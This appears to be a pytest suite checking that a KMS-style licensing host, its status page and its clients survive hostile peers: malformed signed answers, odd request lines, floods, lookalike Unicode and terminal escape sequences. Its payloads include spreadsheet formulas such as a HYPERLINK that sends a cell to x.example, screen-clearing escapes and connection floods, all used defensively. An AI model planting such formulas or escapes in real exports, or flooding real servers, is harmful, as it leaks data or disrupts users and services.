"""Hostile peers on the network: what a KMS host, its status page and a client do when the
other side sends something odd. Nothing a peer sends may reach exit 70 or a traceback, change
what an operator reads beyond the request's own effect, or change a client's store when the
client refuses it.
"""

from __future__ import annotations

import math
import sqlite3
import time
import uuid
from pathlib import Path
from typing import Any

import pytest

from ospp.protocol.crypto import HostKey
from tests.conftest import Ospp
from tests.kmsutil import certified_key, signed_answer
from tests.test_kms import RogueHost, status_of

# -- a certified KMS host that signs odd answers -------------------------------------------------


def certified_rogue(ospp: Ospp) -> tuple[HostKey, dict[str, Any]]:
    """A signing key certified by the client's own (trusted) authority, as a host whose key
    was stolen, or a buggy host, would hold: its answers pass every signature check."""
    from ospp.authority.state import Authority
    from ospp.core.clock import SystemClock

    key = ospp(
        "center", "issue-key", "--product", "ProPlus2021", "--channel", "kms-host", "--json"
    ).data()["key"]
    authority = Authority.open(Path(ospp.env["OSPP_CENTER_HOME"]), SystemClock(), environ={})
    try:
        return certified_key(authority, key)
    finally:
        authority.close()


def resigned(signer: HostKey, answer: dict[str, Any]) -> dict[str, Any]:
    """``answer`` with its signature made again over its (edited) body."""
    from ospp.core.canonical import canonical
    from ospp.protocol.crypto import b64

    unsigned = ("v", "ok", "signature", "certificate", "proof")
    body = {k: v for k, v in answer.items() if k not in unsigned}
    return {**answer, "signature": b64(signer.sign(canonical(body)))}


def licences_and_settings(ospp: Ospp, machine: str) -> tuple[list[Any], list[Any]]:
    """A machine's licences (with their activations) and settings, as stored."""
    conn = sqlite3.connect(ospp.store_file(machine))
    try:
        licences = conn.execute("SELECT * FROM licenses ORDER BY sku_id").fetchall()
        settings = conn.execute("SELECT * FROM meta ORDER BY name").fetchall()
    finally:
        conn.close()
    return licences, settings


MISSING = object()
ODD_SIGNED_FIELDS = {
    "count missing": ("count", MISSING),
    "count null": ("count", None),
    "count a list": ("count", [50]),
    "count a string": ("count", "50"),
    "count a boolean": ("count", True),
    "count a fraction": ("count", 50.5),
    "count infinite": ("count", math.inf),
    "count NaN": ("count", math.nan),
    "count negative": ("count", -3),
    "count beyond 32 bits": ("count", 10**30),
    "activation interval missing": ("activation_interval", MISSING),
    "activation interval text": ("activation_interval", "abc"),
    "activation interval null": ("activation_interval", None),
    "activation interval infinite": ("activation_interval", math.inf),
    "activation interval a fraction": ("activation_interval", 1.5),
    "renewal interval a list": ("renewal_interval", [1]),
    "renewal interval a boolean": ("renewal_interval", False),
}


@pytest.mark.parametrize("name", list(ODD_SIGNED_FIELDS))
def test_a_signed_answer_with_malformed_numbers_is_refused_and_nothing_is_stored(
    ospp: Ospp, name: str
) -> None:
    field, value = ODD_SIGNED_FIELDS[name]
    signer, cert = certified_rogue(ospp)

    def answer(msg: dict[str, Any]) -> dict[str, Any]:
        sent = signed_answer(signer, cert, msg)
        if value is MISSING:
            del sent[field]
        else:
            sent[field] = value
        return resigned(signer, sent)

    rogue = RogueHost(answer)
    try:
        ospp.install("ProPlus2021", "odd")
        assert ospp(f"/sethst:127.0.0.1:{rogue.port}", "odd").code == 0
        before = licences_and_settings(ospp, "odd")
        ran = ospp.proc("/act", "odd")
    finally:
        rogue.close()
    assert ran.code == 1, (ran.code, ran.out, ran.err)
    assert "0xC004F042" in ran.out and "malformed" in ran.out and field in ran.out, ran.out
    assert "Traceback" not in ran.err
    assert status_of(ospp, "odd")["status"] == "OOB_GRACE"
    # neither the activation nor the host's intervals are taken from a refused answer
    assert licences_and_settings(ospp, "odd") == before


# -- the status page: request lines and query strings -------------------------------------------


def http_get(hostport: str, target: bytes) -> bytes:
    """The raw answer to ``GET target`` (everything until the server closes)."""
    import socket

    host, port = hostport.rsplit(":", 1)
    with socket.create_connection((host, int(port)), timeout=10) as s:
        s.sendall(b"GET " + target + b" HTTP/1.1\r\nHost: x\r\n\r\n")
        data = b""
        while chunk := s.recv(65536):
            data += chunk
    return data


def test_odd_request_lines_and_query_strings_get_an_answer_and_no_traceback(ospp: Ospp) -> None:
    from tests.test_status_http import http_host

    host, base = http_host(ospp)
    hostport = base.removeprefix("http://")
    try:
        odd = {
            b"//[x": b" 400 ",  # urlsplit: an unclosed IPv6 literal in the authority
            b"http://[::1/": b" 400 ",
            b"/?page=%C2%B2": b" 200 ",  # a superscript two: a digit to str.isdigit, not to int
            b"/?page=%D9%A3": b" 200 ",  # an Arabic-Indic three
            b"/?page=99999999999999999999": b" 200 ",
            b"/?status=%1b%5b2J&product=%00": b" 200 ",
        }
        for target, status in odd.items():
            answer = http_get(hostport, target)
            assert status in answer.split(b"\r\n", 1)[0], (target, answer[:200])
        # the host still answers its clients and its page
        assert b" 200 " in http_get(hostport, b"/healthz").split(b"\r\n", 1)[0]
    finally:
        host.stop()
    stderr = "\n".join(host.stderr_lines)
    assert "Traceback" not in stderr and "status page failed" not in stderr, stderr


# -- the KMS host's wire: half-closed connections -----------------------------------------------


def test_a_client_that_half_closes_still_gets_every_answer(ospp: Ospp) -> None:
    """A client may send its requests and then shut its sending side (``shutdown(SHUT_WR)``,
    what ``nc -N`` or a script piping requests does): every request it sent in full is
    answered, then the host closes. Another client connected meanwhile keeps the group-commit
    batch from completing at once, so the answers come in a later turn of the host's loop."""
    import json
    import socket

    from tests.kmsutil import Host, make_host, raw_request
    from tests.test_wire import frame, read_frame

    make_host(ospp)
    host = Host(ospp)
    try:
        idle = socket.create_connection(("127.0.0.1", host.port), timeout=10)
        try:
            with socket.create_connection(("127.0.0.1", host.port), timeout=10) as s:
                cmids = [str(uuid.uuid4()) for _ in range(3)]
                requests = b"".join(
                    frame(json.dumps(raw_request(cmid, v=1)).encode()) for cmid in cmids
                )
                s.sendall(requests + frame(b'{"v":1,"op"')[:9])  # and the start of a fourth
                s.shutdown(socket.SHUT_WR)
                answers = [read_frame(s) for _ in cmids]
                assert [a["ok"] for a in answers] == [True] * 3, answers
                assert [a["cmid"] for a in answers] == cmids
                assert s.recv(1) == b""  # then the host closes: the fourth never came whole
            # the idle connection was not disturbed
            idle.sendall(frame(json.dumps(raw_request(v=1)).encode()))
            assert read_frame(idle)["ok"] is True
        finally:
            idle.close()
    finally:
        host.stop()
    assert "Traceback" not in "\n".join(host.stderr_lines)


def test_thousands_of_requests_then_a_half_close_are_all_answered_in_order(ospp: Ospp) -> None:
    """Pings answered at once are answered some at a time, other connections served between
    them; the answers to 3,000 of them, sent in one write before a half-close and read only
    later, all arrive (more than the socket buffers hold: the host waits for the reader)."""
    import json
    import socket

    from tests.kmsutil import Host, make_host
    from tests.test_wire import frame, read_frame

    make_host(ospp)
    host = Host(ospp)
    try:
        with socket.create_connection(("127.0.0.1", host.port), timeout=10) as s:
            nonces = [f"n{i:05d}" for i in range(3000)]
            s.sendall(
                b"".join(
                    frame(json.dumps({"v": 1, "op": "kms-ping", "nonce": n}).encode())
                    for n in nonces
                )
            )
            s.shutdown(socket.SHUT_WR)
            time.sleep(0.5)  # the host has filled the buffers and waits
            with socket.create_connection(("127.0.0.1", host.port), timeout=10) as other:
                other.sendall(frame(b'{"v":1,"op":"kms-ping","nonce":"other"}'))
                assert read_frame(other)["nonce"] == "other"
            answers = [read_frame(s) for _ in nonces]
            assert [a["nonce"] for a in answers] == nonces
            assert s.recv(1) == b""
    finally:
        host.stop()
    assert "Traceback" not in "\n".join(host.stderr_lines)


def test_a_peer_that_resets_after_a_flood_leaves_the_log_quiet(ospp: Ospp) -> None:
    """A client that sends a thousand requests and closes without reading (a reset): the host
    stops answering it, rather than writing on and logging a warning per answer."""
    import socket

    from tests.kmsutil import Host, make_host
    from tests.test_wire import frame

    make_host(ospp)
    host = Host(ospp, extra=("--log-format", "json"))
    try:
        for _ in range(3):
            with socket.create_connection(("127.0.0.1", host.port), timeout=10) as s:
                s.sendall(frame(b'{"v":1,"op":"nope"}') * 1000)
                s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\0\0\0\0\0\0\0")
        with socket.create_connection(("127.0.0.1", host.port), timeout=10) as s:
            s.sendall(frame(b'{"v":1,"op":"kms-ping","nonce":"after"}'))
            assert s.recv(4)
    finally:
        host.stop()
    logged = host.stderr_lines
    assert not [line for line in logged if "socket.send()" in line], logged[:5]
    assert all(line.startswith("{") for line in logged), logged[:5]


# -- the KMS host's counts: what a client claims ------------------------------------------------


def test_a_licence_status_is_one_of_the_names_not_a_lookalike(ospp: Ospp) -> None:
    """Python's upper() maps a dotless i (ı) to I and a long s (ſ) to S: "lıcensed" would pass
    as LICENSED, be stored as another status and be shown as a second "LICENSED" line."""
    from ospp.core.endpoint import Endpoint
    from ospp.protocol.wire import Connection
    from tests.kmsutil import Host, make_host, raw_request

    make_host(ospp)
    host = Host(ospp)
    try:
        with Connection(Endpoint("127.0.0.1", host.port), "KMS host") as conn:
            for lookalike in ("l\u0131censed", "LICEN\u017fED", "NOTI\ufb01CATIONS"):
                answer = conn.call(raw_request(license_status=lookalike))
                assert answer["ok"] is False and answer["code"] == 0xC004F056, answer
                assert "license_status" in answer["message"]
            for name in ("LICENSED", "oob_grace", "EXTENDED_GRACE"):  # in either case, they count
                assert conn.call(raw_request(license_status=name))["ok"] is True
    finally:
        host.stop()
    status = ospp("kms", "status", "--json").data()
    assert status["requests_by_status"] == {"licensed": 1, "oob_grace": 1, "extended_grace": 1}
    assert status["requests_failed"] == 3
    assert status["stored_clients"] == 3
    text = ospp("kms", "status").out
    assert text.count("Requests with License Status Licensed: 1") == 1, text
    assert text.count("Requests with License Status Initial grace period: 1") == 1, text
    assert text.count("Requests with License Status Extended grace period: 1") == 1, text


# -- the phone centre's console: digits that are not ASCII --------------------------------------


@pytest.mark.parametrize(
    "typed", ["\u0661\u0662\u0663\u0664\u0665\u0666\u0667", "\uff11" * 7, "1234\u00b2\u00b36"]
)
def test_the_phone_console_refuses_digits_that_are_not_ascii(ospp: Ospp, typed: str) -> None:
    """Arabic-Indic or full-width digits (a caller's ID pasted from a document), superscripts:
    str.isdigit() accepts them, the check digit cannot be computed over them."""
    assert ospp("center", "init").code == 0
    ran = ospp("center", "phone", input=typed + "\n")
    assert ran.code == 1, (ran.code, ran.out)
    assert "Group 1 is wrong" in ran.out and "cancelled" in ran.out, ran.out
    # which character is not a digit 0-9, not that a group has 7 digits (it has)
    first = next(c for c in typed if not (c.isascii() and c.isdigit()))
    assert f"{first!r} is not a digit from 0 to 9" in ran.out, ran.out
    from ospp.protocol.phone import iid_entry

    wrong = iid_entry().feed(typed)
    assert wrong is not None and wrong.code == 0xC004F02C


def test_slmgr_intervals_refuse_digits_that_are_not_ascii(ospp: Ospp) -> None:
    ospp.install()
    for option in ("/sai", "/sri"):
        ran = ospp("slmgr", option, "\u00b2")
        assert ran.code == 2 and "number of minutes" in ran.out, (option, ran.code, ran.out)


# -- the servers' operational log ---------------------------------------------------------------


def test_listening_keeps_the_servers_own_handler_for_other_loop_errors() -> None:
    """The KMS host and the authority install a handler that logs what the event loop reports
    in one line, without a traceback; starting to listen adds the handling of accept errors
    and must pass everything else on to it (asyncio's default prints a traceback)."""
    import asyncio

    from ospp.protocol import serving

    async def main() -> list[str]:
        loop = asyncio.get_running_loop()
        seen: list[str] = []
        loop.set_exception_handler(lambda _loop, context: seen.append(context["message"]))

        async def answer(message: dict[str, Any]) -> serving.Reply:
            return {"v": 1, "ok": True}

        server = await serving.start(answer, "127.0.0.1", 0)
        try:
            loop.call_exception_handler(
                {"message": "Unhandled exception in a callback", "exception": ValueError("x")}
            )
        finally:
            server.close()
            await server.wait_closed()
        return seen

    assert asyncio.run(main()) == ["Unhandled exception in a callback"]


# -- what an operator reads: kms clients ---------------------------------------------------------


def test_kms_clients_shows_a_stored_cmid_escaped_and_csv_cells_as_text(ospp: Ospp) -> None:
    """The host refuses control characters in a CMID now; a store written before it did may
    hold one. And a workstation name a client chose can look like a spreadsheet formula:
    '--csv > clients.csv' is opened in a spreadsheet, which would run it."""
    import csv
    import io

    from ospp.core.endpoint import Endpoint
    from ospp.protocol.wire import Connection
    from tests.kmsutil import Host, make_host, path_of, raw_request

    make_host(ospp)
    host = Host(ospp)
    formulas = ['=HYPERLINK("http://x.example/"&A1)', "+1+1", "@SUM(1)", "-2+3"]
    plain = "00000000-0000-4000-8000-00000000e71c"
    try:
        with Connection(Endpoint("127.0.0.1", host.port), "KMS host") as conn:
            for name in formulas:
                assert conn.call(raw_request(workstation=name))["ok"] is True
            assert conn.call(raw_request(cmid=plain, workstation="WS-1"))["ok"] is True
    finally:
        host.stop()
    with sqlite3.connect(path_of(ospp)) as db:  # a store edited by hand (a host takes GUIDs)
        db.execute("UPDATE clients SET cmid=? WHERE cmid=?", ("evil\x1b[2J\u202e", plain))
    text = ospp("kms", "clients").out
    assert "\x1b" not in text and "\u202e" not in text and "evil\\x1b[2J" in text, text
    ran = ospp("kms", "clients", "--csv")
    assert ran.code == 0 and "\x1b" not in ran.out and "\u202e" not in ran.out, ran.out
    rows = list(csv.DictReader(io.StringIO(ran.out)))
    assert len(rows) == 5
    shown = {r["workstation"] for r in rows}
    # a cell that would start a formula starts with an apostrophe: a spreadsheet shows it as text
    assert shown == {"'" + name for name in formulas} | {"WS-1"}, shown
    assert {r["cmid"] for r in rows} >= {"evil\\x1b[2J\\u202e"}


# -- the status port cannot starve the KMS port --------------------------------------------------


def test_a_flood_on_the_status_port_leaves_the_kms_connection_cap_alone(
    ospp: Ospp, tmp_path: Path
) -> None:
    """Under ``ulimit -n 200`` the KMS cap is 104. Browsers that connect to the status page and
    never finish their request must neither use up the process's descriptors (the status
    side keeps a few connections, closing the oldest unfinished one for a newcomer) nor make
    the host lower its KMS cap, which it does when the KMS port runs out of descriptors."""
    import socket
    import time

    resource = pytest.importorskip("resource")
    from ospp.core.endpoint import Endpoint
    from ospp.protocol.wire import Connection
    from tests.kmsutil import make_host, raw_request
    from tests.test_limits import serve_with_nofile

    if resource.getrlimit(resource.RLIMIT_NOFILE)[0] < 1024:
        pytest.skip("this test opens 500 sockets of its own")
    make_host(ospp)
    proc, port, err = serve_with_nofile(ospp, tmp_path, 200, "--http", "127.0.0.1:0")
    assert proc.stdout is not None
    http_port = int(proc.stdout.readline().split()[1].rsplit(":", 1)[1])
    stalled: list[socket.socket] = []
    idle: list[socket.socket] = []
    try:
        for _ in range(300):
            s = socket.create_connection(("127.0.0.1", http_port), timeout=5)
            s.sendall(b"GET / HTTP/1.1\r\n")  # and never the end of the head
            stalled.append(s)
        time.sleep(1.5)  # the host has accepted (or failed to accept) them all
        # a browser still gets the page, and clients still activate
        assert b" 200 " in http_get(f"127.0.0.1:{http_port}", b"/healthz").split(b"\r\n")[0]
        with Connection(Endpoint("127.0.0.1", port), "KMS host", 10) as conn:
            assert conn.call(raw_request())["ok"] is True
        for s in stalled:
            s.close()
        # 60 idle KMS connections are within the cap: none is closed to make room
        for _ in range(60):
            idle.append(socket.create_connection(("127.0.0.1", port), timeout=5))
            time.sleep(0.005)
        with Connection(Endpoint("127.0.0.1", port), "KMS host", 10) as conn:
            assert conn.call(raw_request())["ok"] is True
        idle[0].settimeout(0.5)
        with pytest.raises(TimeoutError):
            idle[0].recv(1)  # still open
    finally:
        for s in stalled + idle:
            s.close()
        proc.terminate()
        code = proc.wait(timeout=30)
    said = err.read_text()
    assert code == 0 and "Traceback" not in said, said[-2000:]
    assert "cap lowered" not in said and "closing the longest-idle" not in said, said[-2000:]


# -- the KMS host's wire: a peer that sends and never reads -------------------------------------


def _rss_kib(pid: int) -> int:
    with open(f"/proc/{pid}/status", encoding="ascii") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    raise AssertionError("no VmRSS")


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="reads /proc (Linux)")
def test_a_peer_that_never_reads_its_answers_cannot_grow_the_hosts_memory(ospp: Ospp) -> None:
    """Five bytes (a one-byte frame) get an error answer of about 100: a peer that pipelines
    such frames and never reads made the host buffer every answer in memory, without bound.
    The host stops reading from a connection while its answers are not being taken."""
    import json
    import socket
    import time

    from tests.kmsutil import Host, make_host, raw_request
    from tests.test_wire import frame, read_frame

    make_host(ospp)
    host = Host(ospp)
    assert host.proc is not None
    try:
        before = _rss_kib(host.proc.pid)
        flood = socket.create_connection(("127.0.0.1", host.port), timeout=10)
        flood.settimeout(2)  # the host no longer reads: sending blocks, which ends the loop
        chunk = frame(b"x") * 20_000
        sent, started = 0, time.monotonic()
        try:
            while sent < 600_000 and time.monotonic() - started < 20:
                flood.sendall(chunk)
                sent += 20_000
        except TimeoutError:
            pass
        # the host works through what the kernel buffered (about 3 MB): watch it for a while
        grown, watched = 0, time.monotonic()
        while time.monotonic() - watched < 6 and grown < 8 * 1024:
            time.sleep(0.25)
            grown = max(grown, _rss_kib(host.proc.pid) - before)
        assert grown < 8 * 1024, f"{sent} frames sent, the host grew by {grown} KiB"
        # the connection still works once its peer reads: answers come in order
        first = read_frame(flood)
        assert first["ok"] is False and first["code"] == 0xC004F02C
        flood.close()
        # and other clients were served all along
        with socket.create_connection(("127.0.0.1", host.port), timeout=10) as s:
            s.sendall(frame(json.dumps(raw_request(v=1)).encode()))
            assert read_frame(s)["ok"] is True
    finally:
        host.stop()
    assert "Traceback" not in "\n".join(host.stderr_lines)


# -- what an administrator reads: slmgr /dli -----------------------------------------------------


def test_slmgr_shows_what_a_host_signed_escaped_readably(ospp: Ospp) -> None:
    """A host's ePID is shown as it signed it; a character that could drive the terminal is
    escaped, and as one escape: U+202E as \\u202e, not \\x202e (which reads as a space and
    '2e')."""
    signer, cert = certified_rogue(ospp)

    def answer(msg: dict[str, Any]) -> dict[str, Any]:
        epid = "\x1b]0;title\x07EPID\u202e\x9b"
        return resigned(signer, {**signed_answer(signer, cert, msg), "epid": epid})

    rogue = RogueHost(answer)
    try:
        ospp.install("ProPlus2021", "dli")
        ospp(f"/sethst:127.0.0.1:{rogue.port}", "dli")
        assert ospp("/act", "dli").code == 0
    finally:
        rogue.close()
    out = ospp("slmgr", "/dli", "dli").out
    assert "\x1b" not in out and "\u202e" not in out and "\x9b" not in out
    assert "KMS machine extended PID: \\x1b]0;title\\x07EPID\\u202e\\x9b" in out, out


def test_the_human_log_format_escapes_what_a_peer_may_have_sent() -> None:
    """A status page that fails logs the path the browser asked for, which may hold escape
    sequences (a request line is ASCII, ESC included); on a terminal the human format is used
    and must show them escaped, as the JSON format does."""
    import logging

    from ospp.core.logs import HumanFormatter

    try:
        raise ValueError("bad \x1b[2J value")
    except ValueError as exc:
        record = logging.LogRecord(
            "ospp.http", logging.ERROR, __file__, 1, "status page \x9bfailed", None,
            (type(exc), exc, exc.__traceback__),
        )  # fmt: skip
    record.fields = {"path": "/\x1b]0;title\x07\u202e"}
    text = HumanFormatter().format(record)
    assert not any(c in text for c in "\x1b\x07\x9b\u202e"), repr(text)
    assert "path=/\\x1b]0;title\\x07\\u202e" in text and "bad \\x1b[2J value" in text


# -- the phone centre's proxy batches: a requester's file ---------------------------------------


def test_confirm_batch_csv_keeps_a_requesters_line_from_being_read_as_a_formula(
    ospp: Ospp, tmp_path: Path
) -> None:
    """The installation IDs of a proxy batch come from whoever sent the file; the CSV written
    back is opened in a spreadsheet. A line that is not an ID is echoed in the 'iid' column:
    one that starts like a formula must stay text."""
    import csv

    assert ospp("center", "init").code == 0
    src = tmp_path / "iids.txt"
    src.write_text('=HYPERLINK("http://x.example/")\n@SUM(1)\n+1\n12345\n', encoding="utf-8")
    out = tmp_path / "out.csv"
    assert ospp("center", "confirm-batch", str(src), str(out)).code == 1  # no line is an ID
    with out.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["iid"] for r in rows] == [
        '\'=HYPERLINK("http://x.example/")',
        "'@SUM(1)",
        "'+1",
        "12345",
    ]
    assert all(r["error"].startswith("0xC004F02C ") and not r["cid"] for r in rows)
    # JSON keeps what was sent, as data
    ospp("center", "confirm-batch", str(src), str(tmp_path / "out.json"))
    import json

    written = json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))
    assert written[0]["iid"] == '=HYPERLINK("http://x.example/")'


def test_a_refusal_message_that_is_not_text_is_stored_and_shown_escaped(ospp: Ospp) -> None:
    """A host's refusal carrying a lone surrogate (JSON "\\ud800"), which SQLite cannot store
    and a UTF-8 terminal cannot show, and an escape sequence: /act reports the refusal with
    both escaped and records it, never an internal error; fleet act and the service too."""
    from tests.test_kms import RogueHost

    odd = "\ud800 \x1b[2J" + "x" * 5000
    rogue = RogueHost(lambda m: {"v": 1, "ok": False, "code": 0xC004F038, "message": odd})
    try:
        ospp("install-product", "ProPlus2021", "r1")
        ospp(f"/sethst:127.0.0.1:{rogue.port}", "r1")
        ran = ospp("/act", "r1")
        assert ran.code == 1 and "0xC004F038" in ran.out, ran.out + ran.err
        assert "\\ud800 \\x1b[2J" in ran.out and "\x1b" not in ran.out
        entry = ospp("dhistorykms", "r1", "--json").data()["entries"][-1]
        assert entry["code"] == "0xC004F038" and "\\ud800" in entry["detail"]
        assert len(entry["detail"]) < 1200  # the peer's text is cut short
        assert ospp("fleet", "act", "--machines", "r1").code == 1
        assert ospp("service", "--all").code != 70
    finally:
        rogue.close()


ODD_AUTHORITY = "\ud800 \x1b[2J" + "f" * 5000


def test_a_certificate_naming_an_authority_that_is_not_text_is_refused_and_recorded(
    ospp: Ospp,
) -> None:
    """A host's certificate whose licence names as its authority a lone surrogate (JSON
    "\\ud800"), an escape sequence and thousands of characters: the client refuses the host
    (0xC004F042) saying so escaped and cut short, and records the attempt, never an internal
    error."""
    from tests.test_kms import RogueHost

    signer, cert = certified_rogue(ospp)
    odd = {**cert, "licence": {**cert["licence"], "authority": ODD_AUTHORITY}}
    rogue = RogueHost(lambda m: {**signed_answer(signer, cert, m), "certificate": odd})
    try:
        ospp.install("ProPlus2021", "oa")
        assert ospp(f"/sethst:127.0.0.1:{rogue.port}", "oa").code == 0
        before = licences_and_settings(ospp, "oa")
        ran = ospp.proc("/act", "oa")
    finally:
        rogue.close()
    assert ran.code == 1 and "0xC004F042" in ran.out, (ran.code, ran.out, ran.err)
    assert "\\ud800 \\x1b[2J" in ran.out and "\x1b" not in ran.out, ran.out
    assert "Traceback" not in ran.err and "internal error" not in ran.err, ran.err
    entry = ospp("dhistorykms", "oa", "--json").data()["entries"][-1]
    assert entry["code"] == "0xC004F042" and "\\ud800" in entry["detail"], entry
    assert len(entry["detail"]) < 1200, entry  # the peer's text is cut short
    assert licences_and_settings(ospp, "oa") == before


def test_a_licence_naming_an_authority_that_is_not_text_is_refused_and_recorded(
    ospp: Ospp,
) -> None:
    """The same from an authority (or whoever answers at OSPP_AUTHORITY): a MAK licence whose
    authority is not text is refused (0xC004E003), the failure recorded, nothing stored."""
    from tests.kmsutil import ThreadedServer

    key = ospp("center", "issue-key", "--product", "ProPlus2021", "--json").data()["key"]
    pub = ospp.home / "authority.pub.json"
    pub.write_text(ospp("center", "pubkey").out)
    assert ospp("trust", "add", str(pub)).code == 0  # trusted also with OSPP_AUTHORITY set

    async def handle(msg: dict[str, Any]) -> dict[str, Any]:
        licence = {k: msg.get(k) for k in ("nonce", "cmid", "hardware", "sku_id")}
        return {
            "v": 1,
            "ok": True,
            "licence": {**licence, "authority": ODD_AUTHORITY},
            "signature": "AAAA",
        }

    rogue = ThreadedServer(handle)
    try:
        ospp.install("ProPlus2021", "ma")
        assert ospp(f"/inpkey:{key}", "ma").code == 0
        before = licences_and_settings(ospp, "ma")
        ran = ospp.proc("/act", "ma", env={"OSPP_AUTHORITY": rogue.address})
    finally:
        rogue.close()
    assert ran.code == 1 and "0xC004E003" in ran.out, (ran.code, ran.out, ran.err)
    assert "\\ud800 \\x1b[2J" in ran.out and "\x1b" not in ran.out, ran.out
    assert "Traceback" not in ran.err and "internal error" not in ran.err, ran.err
    entry = ospp("dhistoryacterr", "ma", "--json").data()["entries"][-1]
    assert entry["code"] == "0xC004E003" and "\\ud800" in entry["detail"], entry
    assert len(entry["detail"]) < 1200, entry
    assert licences_and_settings(ospp, "ma") == before


class EchoingTwice:
    """A certified host (a buggy one, or a man in the middle replaying its frames) that sends
    every signed answer twice: a kept connection then holds an answer nobody asked for."""

    def __init__(self, signer: HostKey, cert: dict[str, Any]) -> None:
        import socket
        import threading

        self.signer, self.cert = signer, cert
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        import threading

        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            threading.Thread(target=self._serve, args=(conn,), daemon=True).start()

    def _serve(self, conn: Any) -> None:
        import json
        import socket
        import struct

        with conn:
            for _ in range(100):  # bounded: a pass sends a handful
                try:
                    head = conn.recv(4, socket.MSG_WAITALL)
                    if len(head) < 4:
                        return
                    body = conn.recv(struct.unpack(">I", head)[0], socket.MSG_WAITALL)
                    answer = json.dumps(signed_answer(self.signer, self.cert, json.loads(body)))
                    frame = struct.pack(">I", len(answer)) + answer.encode()
                    conn.sendall(frame + frame)
                except OSError:
                    return

    def close(self) -> None:
        self.server.close()


def test_a_kept_connection_holding_an_answer_nobody_asked_for_is_not_used_again(
    ospp: Ospp,
) -> None:
    """fleet act keeps one connection per host: an answer that arrived unasked (the host
    answered twice) must not be read as the next machine's, which would fail every machine
    after the first with 0xC004F042 ("answered another request")."""
    signer, cert = certified_rogue(ospp)
    rogue = EchoingTwice(signer, cert)
    try:
        for n in range(4):
            ospp.install("ProPlus2021", f"tw{n}")
            assert ospp(f"/sethst:127.0.0.1:{rogue.port}", f"tw{n}").code == 0
        ran = ospp.proc("fleet", "act", "--machines", "tw*")
    finally:
        rogue.close()
    assert ran.code == 0, ran.out + ran.err
    assert "another request" not in ran.out, ran.out
    for n in range(4):
        assert status_of(ospp, f"tw{n}")["status"] == "LICENSED"
